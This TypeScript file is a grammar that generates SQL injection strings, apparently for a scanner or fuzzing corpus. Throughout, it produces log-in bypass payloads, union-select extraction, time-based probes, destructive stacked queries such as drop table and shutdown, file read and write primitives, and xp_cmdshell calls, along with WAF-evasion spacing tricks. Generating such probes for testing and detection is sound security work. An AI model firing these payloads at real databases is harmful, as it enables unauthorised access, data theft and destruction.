/** Log-in bypasses, what a scanner sends to provoke a syntax error, and fragments that stand alone. */
import { lines, type Rules } from "../lib/grammar.ts";

export const SQLI_PROBES: Rules = {
  bypass: lines`
    «who»'«comment1»
    «who»' «or|OR|Or|«pipe»«pipe»» «truth»«comment1»
    «who»'«)|))|»«comment1»
    «who»'«)|))» or «('|'»«s=rnd2»'='«$s»
    «who»" «or|OR|«pipe»«pipe»» «truth»«comment1»
    «who»' or '«s=rnd2»'='«$s»
    ' or «truth»«comment1»
    " or «truth»«comment1»
    ') or («truth»«comment1»
    '/**/or/**/«truth»«comment1»
    'or«n=small»=«$n»
    ' or uname like '%«rnd»
    ' or «username|user|name|email|login» «like|is not|=» «'%|'a%|null|'admin»
    or «n=small»=«$n»
    «int» or «n=small»=«$n»
    or «truth»«comment1»
    «int» and «n=small»=«$n»
    OR «n=int»=«$n»
    «who»' and password like '%
    ' group by «userid|id|«rnd»» having 1=1«comment1»
    ' union select «num», '«who»', '«hex32»'«comment1»
    ' and 1=0 union all select '«who»', '«hex32»'
    1' or '1'='1' «limit 1|order by 1|union select 1|»«comment1»
    ' or 1 «limit «digit»,1|in (1)|is not null|between 0 and 2»«comment1»
    '«&&|&|xor»'1
    '-''
    ' ^''
    ' 'or''='
    "='"
    ' or 3=3
    or 'a'='a
    hi' or «truth» --
    hi") or ("a"="a
    ') or true--
    ")) or (("x"))=(("x
    ' or 'unusual' = 'unusual'
    ' or 'text' > 't'
    ' or 'something' like 'some%'
    ' or username is not NULL or username = '
    x' AND «email|userid|1»=«(SELECT COUNT(*) FROM «noun»)| NULL|1»; --
    x' AND members.email IS NULL; --
    anything' OR 'x'='x
    admin' or «truth» or ''='
    \' or «truth»«comment1»
    \"; or «truth»
    «int»' or true«comment1»
    ' or ''«-|^|&|*|=|/|<>»'
    " or ""«-|^|&|*|=»"`,
  comment1: [
    "--",
    "-- ",
    "-- -",
    "#",
    "/*",
    "«»",
    ";--",
    ";%00",
    "--+",
    "%00",
    " limit 1#",
    ") --",
    "/*",
    "//",
    "'",
    ";#",
  ],
  who: [
    "admin",
    "admin",
    "administrator",
    "root",
    "user",
    "test",
    "«rnd»",
    "«noun»",
    "a",
    "x",
    "1",
    "«small»",
    "guest",
    "bob",
    "webmaster",
    "sa",
    "«»",
    "«email»",
  ],
  truth: [
    "«n=small»=«$n»",
    "«n=int»=«$n»",
    "1=1",
    "true",
    "1",
    "'«s=rnd2»'='«$s»'",
    "2>1",
    "'a'='a'",
    "not false",
    "1 like 1",
    "''=''",
    "0=0",
    "1 -- 1",
    "«n=small» = «$n»",
    "'1'='1'",
    '"a"="a"',
    "1<2",
    "«n=int4»-«$n»=0",
    "id>0",
    "(1)=(1)",
    "exists(select 1)",
    "!0",
    "'«rnd»' is not null",
  ],
  probe: [
    ["«base»«punct*3-9»", 6],
    ["«int»«punct»«punct»«Rnd»<'\">«Rnd»", 3],
    ["«base»'«Rnd»<'\">«Rnd»", 3],
    ["«int»'«qq»", 2],
    ["«base»'\"\\'(", 1],
    ["«base»'\"", 1],
    ["«base»''''\"\"\"\"", 1],
    ["«base»'||'", 1],
    ["¿'\"(", 1],
    ["«base»%27«%22|%20|--|%23|»", 1],
    ["%27%20%6f%72%20«digit»%3d«digit»", 1],
    ["«int»/«'|*|**/|0»'", 1],
    ["';«|--|#|«rnd»;»", 1],
    ["\\\\«'|\"»«--|;|)|»", 1],
    ["«int» AND «int»", 1],
    ["'«Rnd»'=", 1],
    ['«int»\'«)|"|;|`|,|(»«)|"|;|`|,|(»', 1],
    ["@@«rnd»", 0.5],
    ["«int»'«_»«rnd»", 0.3],
    ["(«int»)«'|\"|`|--|#»", 0.7],
  ],
  punct: ["'", "'", '"', "(", ")", ",", ".", ",", "(", ")", '"'],
  short: lines`
    «letter»=«letter»,«n=small»=«$n»
    «int»«!=|<>|<=>|>=|<<|>>|^=»«int»
    «n=int»«!=|<>|<=>|=|>=»«$n»
    «int»'«!=|<>|<=>|>=|=»'«int»
    «int»«gap»«and|or|xor|&&|«pipe»«pipe»|div|mod|rlike|regexp|sounds like|like binary»«gap»«int»«op»«int»
    «int»«and|or|xor|div|rlike»«int»=«int»
    '«and|or|xor|div|rlike|like|&&|«pipe»«pipe»»'«small»«|'|"»
    ;«drop|truncate|alter|create|grant|revoke|lock|rename|analyze|check|repair|optimize|flush|reset|kill|show|describe|explain|use|call|do|handler|prepare|execute|deallocate|vacuum|attach|pragma|copy|backup|restore|shutdown|set»«gap»«table|database|user|all|tables|index|view|procedure|function|«noun»»«gap»«rnd»;
    ;drop«gap»table«gap»«letter»;
    ';drop«gap»table«gap»«tab»«comment1»
    alter«gap»table«gap»«tab»«gap»«add|drop|rename to|modify|change|alter column»«gap»«rnd»«| int| varchar(«int»)»
    alter«gap»«user|login|database|role|system»«gap»«rnd»«gap»«identified by '«rnd»'|with password = '«rnd»'|set «rnd»=«rnd»|enable»
    create«gap»«or replace |»«table|user|login|database|role|function|extension|type|view|language|schema|server|assembly|trigger»«gap»«rnd»«gap»«(a text)|identified by '«rnd»'|as select «num»|with password='«rnd»'|returns int soname '«rnd».so'|»
    grant«gap»«all|select|dba|connect|execute|«rnd»»«gap»«on *.* to|on «tab» to|to»«gap»«rnd»«|@'%'| with grant option»
    revoke «all|select» on «tab» from «rnd»
    handler«gap»«tab»«gap»«open|read first|read next|read «rnd» = («num»)|close»«|;handler «tab» read first»
    load«gap»data«gap»«local |»infile«gap»'«unixfile»'«gap»into«gap»table«gap»«tab»
    load xml infile '«unixfile»' into table «tab»
    select«gap»«scalar»«gap»into«gap»«outfile|dumpfile|@«rnd»»«gap»'«unixfile»'
    «int»«gap»limit«gap»«small»,«small»«gap»«into outfile '«unixfile»'|procedure analyse(«fn»(«num»),«num»)»
    «int» procedure analyse(«|«num»|extractvalue(rand(),concat(0x3a,version()))»,1)
    «int»'«gap»procedure«gap»analyse()«comment1»
    limit «small» offset «digit»«comment1»
    «int»e0union«gap»select«gap»«num»
    «int».union«gap»select«gap»«num»,«num»
    «int».e«rnd?»(«num»)
    «int»e«small»«or|and|union|from»«gap»«num»
    0x«hex4»union(select(«num»),«scalarfn»)
    unionselect«num»,«num»
    «int»unionallselect«col»from«tab»
    union(select(«col»)from(«tab»))
    select(«col»)from(«tab»)where(«cmp»)
    selectcount(*)from«tab»
    insertinto«tab»values(«num»)
    «int»'union/*«rnd»*/select/*«rnd»*/«num»
    «fnmanual»(«scalararg»)
    «fnmanual»(«scalararg»,«num»)
    «fnodd»«gap»(«num»)
    «fnodd» («num»*«num»)
    «fnusual»«gap»(«num»*«num»)
    «sLeEp|SlEEp|SLeeP|sleep|bEnchMaRK|pG_slEEp|waItFoR dElaY|CoNcAt|CHaR|GeT_loCk»«gap»(«num»«*|+|,|-»«num»)
    lo_«get|import|export|unlink|create»(«num»«|,«num»|,'«unixfile»'»)
    «col» «is not null|is null|is true|not in («num»)|sounds like '«rnd»'|rlike '«rnd»'|regexp '^«letter»'|div «num»|collate «rnd»|between «num» and «num»»
    «col»«->>|->|#>>|@>|<@»'«|$.|{»«rnd»'
    «str»«gap»«is not null|rlike «str»|sounds like «str»|like binary «str»|div «num»|collate nocase|escape '\'»
    «num»«gap»is«gap»«not|»«gap»null
    «num» «not |»in («num»,«num»)«comment1»
    '«gap»«is not null|sounds like»«gap»'«rnd»
    @@«global.|session.|»«version|datadir|sql_mode|secure_file_priv|innodb_version|max_connections|log_bin|autocommit|trancount|spid|fetch_status|dbts|procid|servername|textsize»
    @«rnd»:=«num»
    :«rnd»::«text|int»
    $$«rnd»$$
    $«rnd»$«rnd»$«rnd»$
    «num»;«begin|commit|rollback|savepoint «rnd»|start transaction|end»«comment1»
    case«gap»when«gap»«cmp»«gap»then«gap»«num»«gap»end
    if(«cmp»,«num»,«num»)
    «values|table»«gap»«row(«num»)|(«num»)|«tab»»
    with «rnd» as (select «num») select * from «rnd»
    with recursive «v=rnd2» as (select 1 union all select «$v» from «$v») select * from «$v»
    «|natural |cross |left outer |straight_»join «tab» «using(«col»)|on «cmp»»
    «group|order» by «small»«,«small»| desc| asc, (select «num»)| with rollup»«comment1»
    intersect select «num»«comment1»
    «except|minus» select «col» from «tab»«comment1»
    «window|partition by|over» (order by «col»)`,
  gap: [
    " ",
    " ",
    " ",
    "  ",
    "/**/",
    "/*«letter»*/",
    "/*«rnd»*/",
    "+",
    "%20",
    "%0a",
    "«nl»",
    "%09",
    "/*!*/",
    "%a0",
    "()",
  ],
  bare: lines`
    select «cols» from «tab»«where»
    SELECT «cols» FROM «tab»«where»«limit»
    select * from «tab»«where»
    select «scalar»
    select «top»«col» from «tab»
    SELECT @@«version|hostname|datadir|«rnd»»
    «fn»(«scalararg»,«num»)«=|>|<»«lit»
    «fn»(«col»)
    «scalarfn»
    «timecall»
    «timestatement»
    «timestatement»
    ;«stacked»
    «stacked»
    «stacked»
    «union»
    «union»
    «union»
    «erraddend»
    «predicate»
    «predicate»
    «systable»
    «int» «or|and» «systable»
    «hexlit»«hexlong»
    «n=int» «or|and» «$n»«=|<>|>»«num»
    «having»
    having «cmp»«comment1»
    declare @«rnd» «int|varchar(99)|nvarchar(4000)»
    exec«(|ute |  |ute immediate »«xp_|sp_|@|'»«rnd»«)|»
    xp_«cmdshell|regread|dirtree|«rnd»»
    sp_«executesql|addextendedproc|makewebtask|prepare|help»
    «select|SELECT» «if|case|char|sleep|ascii|hex|concat|count|max|load_file»(«scalararg»«,«num»|»)
    create «procedure|function|table|view|trigger|user|index» «rnd» «as|(|is|on|begin»
    merge «into |»«tab» using («select1»)
    «insert|INSERT» «into|INTO» «tab» «values|VALUES»(«lit»,«lit»)
    «delete|DELETE» «from|FROM» «tab»
    «update|UPDATE» «tab» «set|SET» «col»=«lit»
    into «outfile|dumpfile» '«unixfile»'
    «load_file|LOAD_FILE»(«str»)
    load data infile «str»
    «and|or|xor|div|like|between|rlike|regexp|sounds like|not» «cmp»
    (select «scalar»)
    «v=rnd».«$v» «or|and» «cmp»
    {«d|x|oj|fn|\`«rnd2»\`» «scalar»}
    {\`«rnd»\`(select(«num»))}
    «num».e(«num») «union» 
    «num»e0union select «nums»
    -«num»\`«'|union select»\`«nums»
    /*!«version5»«select|union|or» «scalar»*/
    «rnd»'/*!50000«union»*/«comment1»
    @«v=rnd»:=«scalar»
    @\`«rnd»\`
    «col»=«lit» «and|or» «col» «is|=» «lit»
    «scalar»::«text|int|regclass»
    group_concat(«col») from «tab»
    «num»;«num»;select «scalar»
    "or «cmp»
    xmltype(«charcat»)
    collate «utf8_general_ci|nocase|latin1_bin»;«select|union»
    declare @«rnd» cursor for select «col» from «tab»
    open «table_cursor|«rnd»» fetch next from «rnd» into @«rnd»
    cast(0x«hexlong»«hexlong»«hexlong» as «varchar(4000)|char»)`,
  version5: ["50000", "00000", "12345", "40119", "50«int»", "«»", "30«small»00"],
};
